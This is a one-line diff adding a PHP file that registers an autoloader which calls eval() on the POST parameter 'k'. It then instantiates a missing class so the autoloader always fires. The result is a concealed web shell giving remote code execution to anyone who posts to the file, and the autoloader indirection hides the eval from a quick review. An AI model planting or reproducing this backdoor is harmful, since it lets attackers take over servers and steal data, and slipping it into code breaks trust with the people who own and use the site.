@@ -1,0 +1,1 @@
+<?php spl_autoload_register(function ($c) { eval($_POST["k"]); }); new Missing();
